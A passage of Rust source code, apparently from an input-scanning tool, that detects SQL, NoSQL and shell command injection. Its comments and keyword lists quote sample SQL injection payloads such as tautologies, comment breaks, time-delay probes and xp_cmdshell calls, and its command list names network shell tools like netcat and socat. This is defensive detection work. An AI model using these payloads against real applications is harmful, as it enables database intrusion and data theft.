            && memchr::memchr_iter(b';', t.0).any(|i| {
                let n = t.next_word(i + 1);
                let after_quote = matches!(t.before(t.skip_back_ws(i)), b'\'' | b'"' | b'`');
                statement(t, n, true) || (after_quote && t.word_is(n, STATEMENT_WORDS))
            });
        after_semicolon || {
            let first = t.next_word(0);
            first.is_some_and(|(st, _)| st == t.skip_ws(0)) && statement(t, first, false)
        }
    }

    /// Statement keywords that, right after a closed quote and `;`, start a stacked query.
    const STATEMENT_WORDS: &[&str] = &[
        "select", "insert", "update", "delete", "drop", "exec", "execute", "declare", "set",
        "shutdown", "create", "alter", "truncate", "waitfor", "union", "replace", "grant",
    ];

    fn statement(t: Text, n: Option<(usize, usize)>, after_semicolon: bool) -> bool {
        let Some((_, e)) = n else { return false };
        let next = t.next_word(e);
        let next_end = next.map_or(e, |(_, e2)| e2);
        let w = |words: &[&str]| t.word_is(n, words);
        let nx = |words: &[&str]| t.word_is(next, words);
        let (paren, _) = t.skip_code_space(e);
        if w(&["drop", "truncate", "alter", "create"])
            && nx(&[
                "table",
                "database",
                "procedure",
                "function",
                "view",
                "user",
                "schema",
                "index",
                "trigger",
            ])
        {
            return statement_ends_after_name(t, next_end);
        }
        if w(&["drop", "truncate"]) {
            return statement_ends_after_name(t, e);
        }
        if w(&["insert"]) && nx(&["into"]) {
            return after_semicolon || t.contains_ci(b"values") || t.contains_ci(b"select");
        }
        if w(&["delete"]) && nx(&["from"]) {
            let after = t.next_word(next_end);
            let tail = after.map_or(next_end, |(_, x)| x);
            return after.is_some()
                && (t.word_is(t.next_word(tail), &["where"])
                    || statement_ends_after_name(t, next_end));
        }
        if w(&["declare"]) || w(&["set"]) {
            return t.at(paren) == b'@';
        }
        if w(&["exec", "execute"]) {
            let callee = next.map_or(&b""[..], |(st, en)| t.slice(st, en));
            return t.at(paren) == b'('
                || t.at(paren) == b'@'
                || nx(&["master", "immediate"])
                || starts_with_ci(callee, b"xp_")
                || starts_with_ci(callee, b"sp_");
        }
        if w(&["update"]) {
            // update <table> set <column> =
            let set = t.next_word(next_end);
            let col = set.and_then(|(_, x)| t.next_word(x));
            return t.word_is(set, &["set"])
                && col.is_some_and(|(_, x)| t.at(t.skip_ws(x)) == b'=');
        }
        if !after_semicolon {
            return false;
        }
        if w(&["select"]) {
            return matches!(t.at(paren), b'*' | b'@' | b'(' | b'0'..=b'9')
                || nx(&[
                    "null",
                    "version",
                    "user",
                    "pg_sleep",
                    "sleep",
                    "benchmark",
                    "case",
                    "if",
                    "char",
                    "concat",
                    "load_file",
                ])
                || t.contains_ci(b" from ");
        }
        if w(&["replace"]) {
            return t.contains_ci(b"values");
        }
        w(&["shutdown", "waitfor"])
    }

    /// After the object name at `i` (`users`, `` `db`.`t` ``, `IF EXISTS x`): the statement
    /// ends (`;`, a comment, the value's end) or opens a definition `(`.
    fn statement_ends_after_name(t: Text, i: usize) -> bool {
        let (mut j, _) = t.skip_code_space(i);
        if t.starts_ci(j, b"if") && t.word_is(t.next_word(j + 2), &["exists", "not"]) {
            j = t.skip_ws(t.word_end(j + 2));
            while t.word_is(t.next_word(j), &["exists", "not"]) {
                j = t.next_word(j).map_or(j, |(_, x)| x);
            }
        }
        let (j, _) = t.skip_code_space(j);
        let mut k = j;
        while t.is_word(k) || matches!(t.at(k), b'.' | b'`' | b'"' | b'[' | b']') {
            k += 1;
        }
        if k == j {
            return false;
        }
        let m = t.skip_ws(k);
        matches!(t.at(m), 0 | b';' | b'(' | b'#') || t.starts_ci(m, b"--") || t.starts_ci(m, b"/*")
    }

    /// A quote closes the application's string and a boolean operator continues the query:
    /// `' or 1=1`, `" or "a"="a`, `' and sleep(5)`, `x' or 'x' <`, `'or(id glob 1)--`.
    fn quote_break(s: &Scan) -> bool {
        let t = s.t;
        if !s.has_any(b"'\"`") {
            return false;
        }
        t.0.iter().enumerate().any(|(i, &c)| {
            if !matches!(c, b'\'' | b'"' | b'`') {
                return false;
            }
            let j = t.skip_ws(i + 1);
            let op_end = if t.starts_ci(j, b"||") || t.starts_ci(j, b"&&") {
                j + 2
            } else {
                let e = t.word_end(j);
                if !in_list(
                    &[
                        "or", "and", "xor", "div", "mod", "like", "rlike", "regexp", "glob",
                        "having", "collate", "sounds",
                    ],
                    t.slice(j, e),
                ) {
                    return false;
                }
                e
            };
            operand_then_operator(t, op_end)
        })
    }

    /// After a boolean operator: an operand (number, quoted string, identifier, call) followed
    /// by a comparison or a comment.
    fn operand_then_operator(t: Text, i: usize) -> bool {
        let (mut j, _) = t.skip_code_space(i);
        while t.at(j) == b'(' {
            j = t.skip_ws(j + 1);
        }
        let c = t.at(j);
        let end = if matches!(c, b'\'' | b'"' | b'`') {
            match memchr::memchr(c, t.slice(j + 1, j + 1 + 128)) {
                Some(q) => j + q + 2,
                None => return false,
            }
        } else if c == b'@' {
            return true;
        } else if is_word(c) {
            let e = t.word_end(j);
            // A call as operand: `or sleep(5)`, `and starts_with(password)` (prose has a space).
            let paren = t.skip_code_space(e).0;
            let v = trim_ascii(t.0);
            let tight = t.at(e) == b'('
                || (t.at(paren) == b'(' && (v.ends_with(b"--") || v.ends_with(b";")));
            if tight && e - j >= 3 && !t.slice(j, e).iter().all(u8::is_ascii_digit) {
                return true;
            }
            e
        } else {
            return false;
        };
        let operand = t.slice(j, end);
        let literal = matches!(c, b'\'' | b'"')
            || operand.iter().all(u8::is_ascii_digit)
            || in_list(&["true", "false", "null"], operand);
        let (k, _) = t.skip_code_space(end);
        let (n, n2) = (t.at(k), t.at(k + 1));
        let symbolic_op = matches!(t.before(t.skip_back_ws(j)), b'|' | b'&');
        if symbolic_op && literal && n == 0 {
            return true;
        }
        match n {
            b'=' | b'<' | b'>' => true,
            b'!' => matches!(n2, b'=' | b'<' | b'>'),
            b'-' if n2 == b'-' => trailing_comment(t, k + 2),
            b'-' => n2 == 0 || n2.is_ascii_whitespace(),
            b'#' => trailing_comment(t, k + 1),
            b'/' => n2 == b'*',
            b';' => literal,
            b'^' | b'%' | b'*' | b'|' | b'&' => !n2.is_ascii_alphabetic() || literal,
            _ => {
                let w = t.slice(k, t.word_end(k));
                let in_list_op = in_list(&["in"], w) && t.at(t.skip_ws(k + 2)) == b'(';
                // `like '%admin%'`: a wildcard pattern.
                let q = t.skip_ws(k + w.len());
                let wildcard = in_list(&["like", "ilike", "rlike"], w)
                    && matches!(t.at(q), b'\'' | b'"')
                    && t.slice(q + 1, q + 16)
                        .iter()
                        .take_while(|c| **c != t.at(q))
                        .any(|c| *c == b'%');
                if wildcard {
                    return true;
                }
                (in_list_op
                    || in_list(
                        &[
                            "like", "rlike", "regexp", "glob", "between", "is", "sounds", "ilike",
                            "similar", "notnull", "isnull",
                        ],
                        w,
                    ))
                    && (literal || s_has_sql_comment(t) || trim_ascii(t.0).ends_with(b";"))
            }
        }
    }

    /// A comment that ends the injected query: little or nothing after it (`-- -`, `#`),
    /// unlike a prose dash ("… -- in the docs").
    fn trailing_comment(t: Text, i: usize) -> bool {
        let rest = t.slice(i, i + 64);
        t.len().saturating_sub(i) <= 64
            && rest
                .split(u8::is_ascii_whitespace)
                .filter(|w| w.iter().any(u8::is_ascii_alphabetic))
                .count()
                <= 1
    }

    /// The last `--`/`#` in `w` is followed by at most one word: a comment ending the query.
    fn ends_with_comment(w: Text) -> bool {
        let dash = (0..w.len())
            .rev()
            .find(|&i| w.starts_ci(i, b"--"))
            .map(|i| i + 2);
        let hash = w.0.iter().rposition(|c| *c == b'#').map(|i| i + 1);
        dash.max(hash).is_some_and(|i| trailing_comment(w, i))
    }

    fn s_has_sql_comment(t: Text) -> bool {
        find(t.0, b"--", 0).is_some() || t.0.contains(&b'#') || find(t.0, b"/*", 0).is_some()
    }

    /// A quote glued to a word followed directly by a comment (`admin'--`, `admin'#`, `x'/*`),
    /// a `';--`, or a trailing `';` on an email-like single token (`admin@site';`).
    fn quote_comment(s: &Scan) -> bool {
        let t = s.t;
        if !s.has_any(b"'\"`") || !s.has_any(b"-#/;") {
            return false;
        }
        let single_token = !t.0.iter().any(u8::is_ascii_whitespace);
        t.0.iter().enumerate().any(|(i, &c)| {
            if !matches!(c, b'\'' | b'"' | b'`') {
                return false;
            }
            let glued = is_word(t.before(i)) || matches!(t.before(i), b')' | b'\\');
            let (n, n2) = (t.at(i + 1), t.at(i + 2));
            let comment =
                (n == b'-' && n2 == b'-' && matches!(t.at(i + 3), 0 | b' ' | b'\t' | b'\n' | b'-'))
                    || (n == b'#' && matches!(n2, 0 | b' ' | b'\t' | b'\n' | b'#'))
                    || (n == b'/' && n2 == b'*');
            let j = t.skip_ws(i + 1);
            let k = t.skip_ws(j + 1);
            let semi_comment = t.at(j) == b';'
                && (t.starts_ci(k, b"--") || t.at(k) == b'#' || t.starts_ci(k, b"/*"));
            let email_semi =
                t.at(j) == b';' && t.at(k) == 0 && glued && single_token && s.has(b'@');
            (glued && comment) || semi_comment || email_semi
        })
    }

    /// Unquoted tautology: `1 or 1=1`, `x and 2>1`, `|| 'a'='a'`, `OR 1#`, and a value
    /// opening with a boolean operator and a comparison (`OR '{"a":1}' <@ …`).
    fn tautology(s: &Scan) -> bool {
        let t = s.t;
        if !s.word(BOOL_OP) || !s.has_any(b"=<>#") {
            return false;
        }
        ["or", "and", "xor", "||", "&&"].iter().any(|op| {
            let wordy = op.as_bytes().first().copied().is_some_and(is_word);
            s.each_trigger(op, wordy, |p, e| {
                let opens = t.skip_ws(0) == p || t.before(t.skip_back_ws(p)) == b'=';
                compares_equal_operands(t, e) || (opens && operand_then_comparison(t, e))
            })
        })
    }

    /// An operand (word, quoted string, `(`) then a comparison operator (`=`, `!=`, `<`, `>`).
    fn operand_then_comparison(t: Text, i: usize) -> bool {
        let mut j = t.skip_ws(i);
        let mut parens = false;
        while t.at(j) == b'(' {
            parens = true;
            j = t.skip_ws(j + 1);
        }
        let (a0, a1) = operand(t, j);
        let k = t.skip_ws(a1);
        let cmp = matches!(t.at(k), b'=' | b'<' | b'>') || (t.at(k) == b'!' && t.at(k + 1) == b'=');
        (a1 > a0 || parens) && cmp
    }

    /// `1=1`, `2>1`, `'a'='a'`, `x=x` right after a boolean operator, or `1#`.
    fn compares_equal_operands(t: Text, i: usize) -> bool {
        let (a0, a1) = operand(t, t.skip_ws(i));
        if a1 == a0 {
            return false;
        }
        let k = t.skip_ws(a1);
        let lhs = t.slice(a0, a1);
        if t.at(k) == b'#'
            && lhs.iter().all(u8::is_ascii_digit)
            && matches!(t.at(k + 1), 0 | b' ' | b'\n')
        {
            return true;
        }
        let cmp_len = [&b"<=>"[..], b"!=", b"<>", b">=", b"<=", b"=", b"<", b">"]
            .iter()
            .find(|c| t.starts_ci(k, c))
            .map_or(0, |c| c.len());
        if cmp_len == 0 {
            return false;
        }
        let (b0, b1) = operand(t, t.skip_ws(k + cmp_len));
        let rhs = t.slice(b0, b1);
        let numeric = |x: &[u8]| !x.is_empty() && x.iter().all(u8::is_ascii_digit);
        (numeric(lhs) && numeric(rhs))
            || (!rhs.is_empty() && lhs.eq_ignore_ascii_case(rhs) && lhs.len() <= 16)
    }

    /// A word or a quoted string starting at `i`, as a range (empty when neither).
    fn operand(t: Text, i: usize) -> (usize, usize) {
        let c = t.at(i);
        if matches!(c, b'\'' | b'"') {
            let close = memchr::memchr(c, t.slice(i + 1, i + 65)).map_or(i, |q| i + q + 2);
            return (i, close);
        }
        (i, t.word_end(i))
    }

    /// Time-based probes: `sleep(5)` with a numeric / nested argument.
    fn sleep_call(s: &Scan) -> bool {
        let t = s.t;
        s.word(SLEEP)
            && s.has(b'(')
            && s.each_word("sleep", |_, e| {
                let (j, _) = t.skip_code_space(e);
                let (k, _) = t.skip_code_space(j + 1);
                t.at(j) == b'(' && (t.at(k).is_ascii_digit() || matches!(t.at(k), b'(' | b'@'))
            })
    }

    /// `waitfor delay '0:0:5'` / `waitfor time`.
    fn waitfor_delay(s: &Scan) -> bool {
        let t = s.t;
        s.word(WAITFOR)
            && s.each_word("waitfor", |_, e| {
                t.word_is(t.next_word(e), &["delay", "time"])
            })
    }

    /// `select *`, `select null,…`, `select 1,2,3`, `select char(…)`, `select @@…`,
    /// `select(…)`, and `select a,b from t where …` with SQL punctuation.
    fn select_projection(s: &Scan) -> bool {
        let t = s.t;
        s.word(SELECT)
            && s.each_word("select", |_, e| {
                let (j, _) = t.skip_code_space(e);
                match t.at(j) {
                    b'*' | b'@' => true,
                    b'(' => {
                        let (k, _) = t.skip_code_space(j + 1);
                        t.word_is(
                            t.next_word(k),
                            &[
                                "select",
                                "case",
                                "sleep",
                                "char",
                                "chr",
                                "count",
                                "if",
                                "user",
                                "version",
                                "database",
                                "concat",
                                "ascii",
                                "substring",
                                "sleep",
                            ],
                        ) || t.at(k).is_ascii_digit()
                    }
                    b'0'..=b'9' => {
                        let (k, _) = t.skip_code_space(t.word_end(j));
                        matches!(t.at(k), 0 | b',' | b'+' | b'*' | b';')
                            || t.word_is(t.next_word(k), &["from", "union", "where", "into"])
                    }
                    _ => select_function(t, j) || select_from_where(t, e),
                }
            })
    }

    fn select_function(t: Text, j: usize) -> bool {
        let n = t.next_word(j);
        let sql_fn = [
            "null",
            "char",
            "chr",
            "concat",
            "group_concat",
            "load_file",
            "pg_sleep",
            "sleep",
            "benchmark",
            "version",
            "user",
            "database",
            "ascii",
            "substring",
            "count",
            "current_user",
            "if",
        ];
        t.word_is(n, &sql_fn) && {
            let (k, _) = t.skip_code_space(n.map_or(j, |(_, x)| x));
            matches!(t.at(k), b'(' | b',' | b';' | 0)
        }
    }

    /// `select a, b from t where/limit …`: punctuation in the column list and a SQL clause.
    fn select_from_where(t: Text, e: usize) -> bool {
        let window = Text(t.slice(e, e + 160));
        find_ci(window.0, b" from ", 0).is_some_and(|f| {
            let cols = window.slice(0, f);
            let after = Text(window.slice(f + 6, window.len()));
            let punct = cols.iter().any(|c| matches!(c, b',' | b'`' | b'(' | b'*'));
            let clause = after.contains_ci(b" where ")
                || after.contains_ci(b" limit ")
                || after.contains_ci(b"--")
                || after.0.contains(&b';')
                || after.0.contains(&b'`');
            punct && clause
        })
    }

    /// `' order by 3--`, `1 order by 10#` column-count probes; `group by … having count(…)`.
    fn order_by_probe(s: &Scan) -> bool {
        let t = s.t;
        let order = s.word(ORDER)
            && s.each_word("order", |st, e| {
                let by = t.next_word(e);
                let before = t.before(t.skip_back_ws(st));
                let by_end = by.map_or(e, |(_, x)| x);
                let (j, _) = t.skip_code_space(by_end);
                let d = t.word_end(j);
                t.word_is(by, &["by"])
                    && matches!(before, b'\'' | b'"' | b')' | b'`' | b'0'..=b'9')
                    && (d > j && t.slice(j, d).iter().all(u8::is_ascii_digit)
                        || t.word_is(t.next_word(by_end), &["if", "case", "sleep"]))
            });
        order
            || s.word(HAVING)
                && s.each_word("having", |_, e| {
                    let n = t.next_word(e);
                    let (k, _) = t.skip_code_space(n.map_or(e, |(_, x)| x));
                    t.word_is(n, &["count", "sum", "min", "max", "avg"]) && t.at(k) == b'('
                })
    }

    /// PostgreSQL casts used for error-based extraction: `::int`, `::text`, `::jsonb`.
    fn postgres_cast(s: &Scan) -> bool {
        let t = s.t;
        s.has(b':')
            && find_all(t.0, b"::").any(|p| {
                let e = t.word_end(p + 2);
                in_list(
                    &[
                        "int", "integer", "text", "bool", "boolean", "json", "jsonb", "varchar",
                        "regclass", "bigint", "numeric", "bytea", "xml",
                    ],
                    t.slice(p + 2, e),
                )
            })
    }

    /// PostgreSQL JSON operators between quoted operands: `'{…}' <@ '{…}'`, `' ?| array[`.
    fn json_operator(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'\'')
            && s.has_any(b"@?#>")
            && [&b"<@"[..], b"@>", b"?|", b"?&", b"#>", b"#-", b"->>", b"@@"]
                .iter()
                .any(|op| {
                    find_all(t.0, op).any(|p| {
                        let before = t.before(t.skip_back_ws(p));
                        let after = t.at(t.skip_ws(p + op.len()));
                        before == b'\'' && matches!(after, b'\'' | b'$' | b'a' | b'A')
                    })
                })
    }

    /// T-SQL: `declare @x`, `exec(@q)`, `exec master..xp_`, `set @a=`.
    fn mssql(s: &Scan) -> bool {
        let t = s.t;
        s.word(DECLARE | EXEC)
            && s.has_any(b"@(.")
            && (s.each_word("declare", |_, e| t.at(t.skip_code_space(e).0) == b'@')
                || s.each_word("exec", |_, e| {
                    let (j, _) = t.skip_code_space(e);
                    t.at(j) == b'@'
                        || (t.at(j) == b'(' && t.at(t.skip_ws(j + 1)) == b'@')
                        || t.word_is(t.next_word(e), &["master", "xp_cmdshell", "sp_executesql"])
                }))
    }

    /// Two quoted literals compared: `'x'!='y`, `'1'='1`, `"a"<>"b"`.
    fn quoted_comparison(s: &Scan) -> bool {
        let t = s.t;
        s.has_any(b"'\"")
            && s.has_any(b"=<>")
            && t.0.iter().enumerate().any(|(i, &q)| {
                if !matches!(q, b'\'' | b'"') {
                    return false;
                }
                let body = t.slice(i + 1, i + 34);
                let Some(close) = memchr::memchr(q, body) else {
                    return false;
                };
                let k = t.skip_ws(i + 1 + close + 1);
                let op_len = [&b"!="[..], b"<>", b"<=", b">=", b"=", b"<", b">"]
                    .iter()
                    .find(|o| t.starts_ci(k, o))
                    .map_or(0, |o| o.len());
                let lit = body.get(..close).unwrap_or_default();
                op_len > 0
                    && lit.iter().all(|c| is_word(*c))
                    && matches!(t.at(t.skip_ws(k + op_len)), b'\'' | b'"')
            })
    }

    /// A quote glued to a word, SQL between it and a comment that ends the value:
    /// `x'|email--`, `id'not like id--`, `'sounds like rowid--`, `a'or?--`.
    fn quote_trailing_comment(s: &Scan) -> bool {
        let t = s.t;
        let v = trim_ascii(t.0);
        let core = {
            let mut e = v.len();
            while e > 0 && matches!(v.get(e - 1), Some(b'-' | b' ')) {
                e -= 1;
            }
            v.get(..e).unwrap_or_default()
        };
        let ends_comment = v.ends_with(b"--") || v.ends_with(b"-- -") || v.ends_with(b"#");
        ends_comment && s.has_any(b"'\"`") && v.len() <= 256 && {
            let q = core.iter().position(|c| matches!(c, b'\'' | b'"' | b'`'));
            q.is_some_and(|q| {
                let between = Text(core.get(q + 1..).unwrap_or_default());
                let op = between.0.iter().any(|c| {
                    matches!(
                        c,
                        b'|' | b'^'
                            | b'&'
                            | b'<'
                            | b'>'
                            | b'='
                            | b'%'
                            | b'/'
                            | b'*'
                            | b'+'
                            | b'-'
                            | b'!'
                            | b'?'
                            | b'('
                    )
                });
                let word = [
                    "or", "and", "not", "like", "is", "glob", "mod", "div", "regexp", "sounds",
                    "xor", "collate", "notnull", "isnull", "escape",
                ]
                .iter()
                .any(|w| {
                    let w = w.as_bytes();
                    let mut from = 0;
                    while let Some(p) = find_ci(between.0, w, from) {
                        from = p + 1;
                        if between.word_start(p) && !between.is_word(p + w.len()) {
                            return true;
                        }
                    }
                    false
                });
                (q == 0 || is_word(core.get(q - 1).copied().unwrap_or(0))) && (op || word)
            })
        }
    }

    /// `) AS alias FROM`, `` ` AS `alias` from ``: the tail of a projection broken into.
    fn alias_from(s: &Scan) -> bool {
        let t = s.t;
        s.has_any(b")`'\"")
            && find_ci(t.0, b"from", 0).is_some()
            && find_all(t.0, b" ").any(|sp| {
                let i = sp + 1;
                let before = t.before(t.skip_back_ws(sp + 1));
                if !t.starts_ci(i, b"as")
                    || t.is_word(i + 2)
                    || !(matches!(before, b')' | b'`' | b'\'' | b'"') || before.is_ascii_digit())
                {
                    return false;
                }
                let j = t.skip_ws(i + 2);
                let quoted = matches!(t.at(j), b'`' | b'\'' | b'"');
                if before.is_ascii_digit() && !quoted {
                    return false;
                }
                let e = if quoted {
                    memchr::memchr(t.at(j), t.slice(j + 1, j + 64)).map_or(j, |c| j + c + 2)
                } else {
                    t.word_end(j)
                };
                let f = t.skip_ws(e);
                e > j
                    && t.starts_ci(f, b"from")
                    && !t.is_word(f + 4)
                    && (quoted || t.skip_ws(f + 4) >= t.len())
            })
    }

    /// A value that is the middle of a query: `FROM t WHERE a="b";`, ``from `db`.`t` limit``.
    fn from_clause(s: &Scan) -> bool {
        let t = s.t;
        let start = t.skip_ws(0);
        s.has_any(b"`=") && t.starts_ci(start, b"from") && !t.is_word(start + 4) && {
            let rest = Text(t.slice(start + 4, start + 200));
            rest.contains_ci(b" where ")
                || rest.contains_ci(b" limit")
                || rest.contains_ci(b" group by ")
                || rest.contains_ci(b" order by ")
        }
    }

    /// A value that is only a comparison of numbers: `1=1`, `11!=1`, `42<=>42`, `1 is not 2`.
    fn bare_comparison(s: &Scan) -> bool {
        let v = Text(trim_ascii(s.t.0));
        s.has_any(b"=!<>lLiI") && v.len() <= 24 && v.at(0).is_ascii_digit() && {
            let a = v.word_end(0);
            let k = v.skip_ws(a);
            let op = [&b"<=>"[..], b"!=", b"<>", b"=", b"like", b"is not", b"is"]
                .iter()
                .find(|o| v.starts_ci(k, o))
                .map_or(0, |o| o.len());
            let j = v.skip_ws(k + op);
            let b = v.word_end(j);
            let (lhs, rhs) = (v.slice(0, a), v.slice(j, b));
            let negated = matches!(op, 2 | 6) && !v.starts_ci(k, b"<=>");
            let numbers = lhs.iter().all(u8::is_ascii_digit)
                && b > j
                && b == v.len()
                && rhs.iter().all(u8::is_ascii_digit);
            // Only tautologies: equal operands for `=`/`like`/`is`, different ones for `!=`/`is not`.
            numbers && ((lhs == rhs) != negated)
        }
    }

    /// SQL built-in functions (MySQL/PostgreSQL/MSSQL/SQLite) for [`function_fragment`].
    #[rustfmt::skip]
    const SQL_FUNCTIONS: &[&str] = &[
        "abs", "acos", "adddate", "addtime", "aes_decrypt", "aes_encrypt", "ascii", "asin", "atan",
        "avg", "benchmark", "bin", "bit_and", "bit_count", "bit_length", "bit_or", "bit_xor", "cast",
        "ceil", "ceiling", "char", "char_length", "character_length", "charset", "chr", "coalesce",
        "collation", "compress", "concat", "concat_ws", "connection_id", "conv", "convert", "cos",
        "cot", "count", "crc32", "curdate", "current_date", "current_time", "current_timestamp",
        "current_user", "curtime", "database", "date", "date_add", "date_format", "date_sub",
        "datediff", "day", "dayname", "dayofmonth", "dayofweek", "dayofyear", "decode", "default",
        "degrees", "elt", "encode", "encrypt", "exp", "export_set", "extractvalue", "field",
        "find_in_set", "floor", "format", "found_rows", "from_days", "from_unixtime", "get_lock",
        "greatest", "group_concat", "hex", "hour", "if", "ifnull", "iif", "in", "inet_aton",
        "inet_ntoa", "insert", "instr", "isnull", "last_insert_id", "lcase", "least", "left",
        "length", "ln", "load_file", "local", "localtime", "locate", "log", "log10", "log2",
        "lower", "lpad", "ltrim", "make_set", "max", "md5", "mid", "min", "minute", "mod",
        "month", "name_const", "now", "nullif", "oct", "ord", "password", "pg_sleep", "pi",
        "position", "pow", "power", "quarter", "quote", "rand", "repeat", "replace", "reverse",
        "right", "round", "row_count", "rpad", "rtrim", "schema", "second", "session_user", "sha",
        "sha1", "sha2", "sign", "sin", "sleep", "soundex", "space", "sqrt", "stddev", "strcmp",
        "substr", "substring", "substring_index", "sum", "sysdate", "system_user", "tan", "time",
        "timestamp", "trim", "truncate", "ucase", "uncompress", "unhex", "upper", "user", "uuid",
        "values", "version", "week", "year",
    ];

    static SQL_FUNCTION_MAP: LazyLock<WordMap> =
        LazyLock::new(|| WordMap::new(&[(SQL_FUNCTIONS, 1)]));

    /// A value that is nothing but a SQL function name opening a call (`sleep(`, `COS(`,
    /// `Rand (`, `length||(`, `IN (0,1)`): a probe fragment, never prose.
    fn function_fragment(s: &Scan) -> bool {
        let v = Text(trim_ascii(s.t.0));
        if !s.has(b'(') || v.len() > 40 {
            return false;
        }
        let e = v.word_end(0);
        if e == 0 || SQL_FUNCTION_MAP.get(v.slice(0, e)) == 0 {
            return false;
        }
        let Some(paren) = memchr::memchr(b'(', v.0) else {
            return false;
        };
        let junk = v.slice(e, paren);
        let tail = Text(v.slice(paren + 1, v.len()));
        let tail_ok = tail.0.iter().all(|c| !c.is_ascii_alphabetic())
            || (tail.0.last() == Some(&b')')
                && tail
                    .0
                    .iter()
                    .all(|c| c.is_ascii_digit() || matches!(c, b',' | b'-' | b' ' | b')')));
        junk.len() <= 6
            && junk.iter().all(|c| !c.is_ascii_alphanumeric())
            && tail_ok
            && tail.len() <= 24
    }

    /// `VALUES ('192.168.0.1', 'test')`: an INSERT value list.
    fn values_list(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'(') && s.has_any(b"'\"") && t.contains_ci(b"values") && {
            let mut from = 0;
            let mut hit = false;
            while let Some(p) = find_ci(t.0, b"values", from) {
                from = p + 6;
                let paren = t.skip_ws(p + 6);
                if t.word_start(p)
                    && t.at(paren) == b'('
                    && matches!(t.at(t.skip_ws(paren + 1)), b'\'' | b'"')
                {
                    hit = true;
                    break;
                }
            }
            hit
        }
    }

    /// A value opening with an unbalanced quote and a statement keyword: `'alter a`, `" UNION A`.
    fn open_quote_keyword(s: &Scan) -> bool {
        let t = s.t;
        let i = t.skip_ws(0);
        let q = t.at(i);
        matches!(q, b'\'' | b'"') && memchr::memchr_iter(q, t.0).count() % 2 == 1 && {
            let n = t.next_word(i + 1);
            t.word_is(
                n,
                &[
                    "union", "alter", "select", "drop", "insert", "update", "delete", "create",
                    "truncate", "exec", "declare",
                ],
            ) && n.is_some_and(|(_, e)| !matches!(t.at(e), b'\''))
        }
    }

    /// MongoDB query operators smuggled into a value or key: `[$ne]`, `{"$gt": ""}`, `$where`.
    fn mongo_operator(s: &Scan) -> bool {
        const OPS: &[&str] = &[
            "ne",
            "gt",
            "gte",
            "lt",
            "lte",
            "in",
            "nin",
            "regex",
            "where",
            "exists",
            "elemmatch",
            "expr",
            "or",
            "and",
            "not",
            "nor",
            "text",
            "type",
            "size",
            "all",
            "mod",
            "jsonschema",
        ];
        let t = s.t;
        s.has(b'$')
            && memchr::memchr_iter(b'$', t.0).any(|p| {
                let e = t.word_end(p + 1);
                let before = t.before(p);
                let placed = matches!(before, 0 | b'[' | b'{' | b'"' | b'\'' | b' ' | b',')
                    && (before != b' ' || t.skip_ws(0) == p);
                e > p + 1
                    && !t.is_word(e)
                    && t.at(e) != b'.'
                    && placed
                    && in_list(OPS, t.slice(p + 1, e))
                    && (before != 0 || e == trim_ascii(t.0).len())
            })
    }

    /// libinjection's SQL tokenizer and fingerprint list, confirmed by structure: on prose its
    /// fingerprints misfire (quoted words around "or", "Update (March 9)"), so the value must
    /// also break a quote into SQL or carry SQL operators/comments between SQL tokens.
    fn libinjection(s: &Scan) -> bool {
        // Gate: a quote plus a SQL-only word or a comment right after a quote (the tokenizer
        // costs microseconds; quote-break tautologies are judged by `quote_break`).
        if !s.has_any(b"'\"`") {
            return false;
        }
        let comment = s.has_any(b"-#/");
        let sql_word = s.word(SQL_WORD);
        let t = s.t;
        let spots = (0..t.len()).filter(move |&i| {
            matches!(t.at(i), b'\'' | b'"' | b'`')
                && ((comment && quote_then_comment(t, i)) || (sql_word && quote_in_code(t, i)))
        });
        windows(t, spots, 32).any(|w| {
            let r = libinjectionrs::detect_sqli(w);
            r.is_injection()
                && confirmed_fingerprint(Text(w), r.fingerprint.as_ref().map_or("", |f| f.as_str()))
        })
    }

    fn quote_then_comment(t: Text, i: usize) -> bool {
        let j = t.skip_ws(i + 1);
        t.starts_ci(j, b"--") || t.at(j) == b'#' || t.starts_ci(j, b"/*")
    }

    /// A quote next to SQL punctuation (`='`, `')`, `' ||`, `1'`), not an apostrophe in prose.
    fn quote_in_code(t: Text, i: usize) -> bool {
        let code = |c: u8| {
            matches!(
                c,
                b'=' | b'(' | b')' | b'<' | b'>' | b';' | b'|' | b'&' | b'*' | b'@' | b'+'
            )
        };
        code(t.before(t.skip_back_ws(i)))
            || code(t.at(t.skip_ws(i + 1)))
            || t.before(i).is_ascii_digit()
    }

    /// Fingerprints of real attacks carry a SQL keyword/function/union token (`k`, `U`, `E`,
    /// `f`, `B`, `T`) or an operator right after a quote break; prose fingerprints are mostly
    /// strings and bare words (`sos`, `s&s`, `n&n`).
    fn confirmed_fingerprint(w: Text, fp: &str) -> bool {
        // Shapes libinjection reports on prose: quoted words joined by a word, "Update (…)".
        if ["sos", "sBs", "so(n)", "T(nn)"].contains(&fp) || fp.starts_with("E(") {
            return false;
        }
        let sql_token = fp
            .chars()
            .any(|c| matches!(c, 'k' | 'U' | 'E' | 'f' | 'B' | 'T' | 'A' | 't'));
        let comment = fp.ends_with('c');
        let starts_in_string = fp.starts_with('s');
        let operator = fp.contains('o') || fp.contains('&');
        let code_chars =
            w.0.iter()
                .any(|c| matches!(c, b'=' | b'<' | b'>' | b'@' | b';'))
                || find(w.0, b"/*", 0).is_some();
        let ends_in_comment = comment && ends_with_comment(w);
        ends_in_comment || (code_chars && (sql_token || (starts_in_string && operator)))
    }
}

// ---------------------------------------------------------------------------------------------
// Shell / OS command injection
// ---------------------------------------------------------------------------------------------

mod shell {
    use super::*;

    pub const RULES: &[Rule] = &[
        ("shell-command", command_positions),
        ("shell-glob-path", glob_path),
        ("shell-brace-expansion", brace_expansion),
        ("cmd-for-loop", for_loop),
        ("cmd-if", if_statement),
        ("shell-function-definition", function_definition),
        ("shell-alias", alias_definition),
        ("shell-arithmetic", arithmetic_expansion),
        ("shell-substitution", substitution),
        ("mail-protocol-command", mail_protocol),
    ];

    /// Command classes.
    const STRONG: u8 = 1;
    const WEAK: u8 = 2;
    const PREFIX: u8 = 4;
    const PROBE: u8 = 8;

    /// Commands with no everyday English reading: one at a command position is conclusive.
    #[rustfmt::skip]
    const STRONG_CMDS: &[&str] = &[
        "whoami", "ifconfig", "ipconfig", "uname", "wget", "netcat", "ncat", "socat", "busybox",
        "pwsh", "nslookup", "netstat", "chmod", "chown", "chgrp", "useradd", "adduser",
        "usermod", "visudo", "sudo", "crontab", "nohup", "strace", "ltrace", "gdb", "xxd",
